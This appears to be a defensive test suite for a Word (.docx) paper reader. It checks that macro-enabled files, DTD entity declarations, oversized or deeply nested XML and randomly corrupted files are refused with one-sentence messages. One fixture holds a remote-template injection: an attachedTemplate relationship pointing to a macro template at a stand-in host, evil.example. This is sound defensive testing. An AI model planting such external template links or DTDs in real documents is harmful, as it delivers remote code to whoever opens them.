import { openZip } from '../../../main/files/open-zip.ts';
import { readWordPaper } from '../../../main/papers/read-paper.ts';
import { writeWord } from '../../../main/word/write-word.ts';
import { ALL_RULES } from '../../../shared/check/all-rules.ts';
import { checkPaper } from '../../../shared/check/check-paper.ts';
import type { Reply } from '../../../shared/model/reply.ts';
import { makeDocx, p, zipOf } from '../../helpers/make-docx.ts';
import { inputOf } from '../../helpers/paper-of.ts';
import { seededRandom } from '../../helpers/random.ts';
import { sampleDocument } from '../../helpers/sample-document.ts';

function read(bytes: Uint8Array): Reply<unknown> {
  const zip = openZip(bytes, 'paper.docx');
  return zip.ok ? readWordPaper(zip.value) : zip;
}

function refusal(bytes: Uint8Array): string {
  const reply = read(bytes);
  return reply.ok ? 'it was read' : reply.problem.message;
}

const nested = (depth: number) =>
  `${'<w:sdt><w:sdtContent>'.repeat(depth)}${p('deep')}${'</w:sdtContent></w:sdt>'.repeat(depth)}`;
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const WORKBOOK = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

test.each([
  ['a zip of something else', zipOf([{ name: 'a.txt', xml: 'a' }]), 'paper.docx is not a Word paper (.docx).'],
  ['a workbook', makeDocx({ body: p('a'), mainType: WORKBOOK }), 'paper.docx is not a Word paper (.docx).'],
  [
    'macros',
    makeDocx({ body: p('a'), mainType: MACROS }),
    'paper.docx carries macros: save it as a Word document (.docx) without them.',
  ],
  [
    'macros hidden',
    makeDocx({ body: p('a'), extra: [{ name: 'word/vbaProject.bin', xml: 'x' }] }),
    'paper.docx carries macros: save it as a Word document (.docx) without them.',
  ],
  [
    'broken XML',
    makeDocx({ body: '<w:p><w:r>' }),
    'paper.docx: its part word/document.xml is damaged: it is not well-formed XML.',
  ],
  [
    'a DTD',
    makeDocx({ body: p('a'), styles: '<!DOCTYPE x [<!ENTITY y "z">]>' }),
    'paper.docx: its part word/styles.xml has a DTD, which an Office file never has.',
  ],
  [
    'more elements than any paper has',
    makeDocx({ body: '<w:p/>'.repeat(330_000) }),
    'paper.docx: its part word/document.xml is larger or deeper than any paper.',
  ],
  [
    'elements without end',
    makeDocx({ body: nested(200) }),
    'paper.docx: its part word/document.xml is larger or deeper than any paper.',
  ],
])('%s is one sentence', (_, bytes, sentence) => {
  expect(refusal(bytes)).toBe(sentence);
});

test('what a paper would fetch from elsewhere is named and not fetched', () => {
  const reply = read(
    makeDocx({
      body: p('a'),
      rels: '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
    }),
  );
  expect(JSON.stringify(reply.ok ? (reply.value as { paper: { traces: unknown } }).paper.traces : reply)).toContain(
    'evil.example',
  );
});

test('styles that are based on one another and lists without a definition do no harm', () => {
  const style = (id: string, on: string) =>
    `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${on}"/></w:style>`;
  const body = p('a', '<w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="77"/><w:numId w:val="9"/></w:numPr>');
  expect(
    read(
      makeDocx({
        body,
        styles: style('A', 'B') + style('B', 'A'),
        numbering: '<w:num w:numId="9"><w:abstractNumId w:val="5"/></w:num>',
      }),
    ).ok,
  ).toBe(true);
});

test('a good paper that is changed at random is read, or refused with a sentence', () => {
  const good = writeWord(sampleDocument);
  const zip = openZip(good, 'paper.docx');
  if (!zip.ok) throw new Error(zip.problem.message);
  const parts = zip.value.names
    .filter((name) => /\.(xml|rels)$/.test(name))
    .map((name) => {
      const xml = zip.value.readXml(name);
      return { name, xml: xml.ok ? xml.value : '' };
    });
  const random = seededRandom(20_261_125);
  const pick = (below: number): number => Math.floor(random() * below);
  const seen = { read: 0, refused: 0 };
  for (let round = 0; round < 60; round += 1) {
    const at = pick(parts.length);
    const changed = parts.map((part, n) => (n === at ? { ...part, xml: mutate(part.xml, pick) } : part));
    const opened = openZip(zipOf(changed), 'paper.docx');
    const reply = opened.ok ? readWordPaper(opened.value) : opened;
    if (reply.ok) {
      checkPaper(inputOf(reply.value.paper), ALL_RULES);
      seen.read += 1;
    } else {
      expect(reply.problem.message).toMatch(/^paper\.docx.{10,}\.$/);
      seen.refused += 1;
    }
  }
  for (let round = 0; round < 60; round += 1) {
    const bytes = Uint8Array.from(good);
    for (let n = 0; n < 1 + pick(8); n += 1) bytes[pick(bytes.length)] = pick(256);
    const reply = read(pick(4) === 0 ? bytes.slice(0, pick(bytes.length)) : bytes);
    if (!reply.ok) expect(reply.problem.message).toMatch(/^paper\.docx.{5,}\.$/);
  }
  expect(seen.read).toBeGreaterThan(8);
  expect(seen.refused).toBeGreaterThan(8);
});

/** `xml` with an element taken out, doubled, renamed or given another value, or with a few characters lost. */
function mutate(xml: string, pick: (below: number) => number): string {
  const tags = [...xml.matchAll(/<[^>]+>/g)];
  const tag = tags[pick(tags.length)];
  if (tag === undefined) return xml;
  const [before, after] = [xml.slice(0, tag.index), xml.slice(tag.index + tag[0].length)];
  switch (pick(6)) {
    case 0:
      return before + after;
    case 1:
      return `${before}${tag[0]}${tag[0]}${after}`;
    case 2:
      return `${before}${tag[0].replace(/"[^"]*"/, () => `"${['', '-1', '99999999999', 'x'][pick(4)] ?? ''}"`)}${after}`;
    case 3:
      return before + after.slice(pick(200));
    case 4:
      return `${before}${tag[0].replace(/w:\w+/, 'w:p')}${after}`;
    default:
      return xml.replaceAll(tag[0], '');
  }
}
